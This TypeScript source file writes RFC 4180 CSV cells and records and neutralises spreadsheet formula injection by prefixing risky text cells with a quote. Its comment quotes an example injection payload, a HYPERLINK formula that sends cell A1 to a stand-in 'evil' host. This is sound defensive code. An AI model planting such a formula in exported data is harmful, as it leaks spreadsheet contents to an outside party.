/**
 * CSV as RFC 4180 writes it: fields separated by commas, records by CRLF, and a field
 * quoted (its quotes doubled) when it holds a comma, a quote, CR or LF.
 *
 * Spreadsheets run a cell that starts with `=`, `+`, `-` or `@` as a formula (CSV
 * injection, OWASP): a User-Agent like `=HYPERLINK("http://evil/?"&A1)` would run in the
 * store's Excel. Such text cells get a leading `'`, which spreadsheets show as text; so do
 * cells starting with a tab or CR, which some spreadsheets skip before looking for `=`.
 * Numbers and booleans are written as they are (a negative number is data, not a formula).
 */
export function csvCell(value: string | number | boolean | null): string {
  if (value === null) return "";
  if (typeof value !== "string") return String(value);
  const text = /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** One CSV record, CRLF-terminated. */
export function csvRecord(values: readonly (string | number | boolean | null)[]): string {
  return `${values.map(csvCell).join(",")}\r\n`;
}
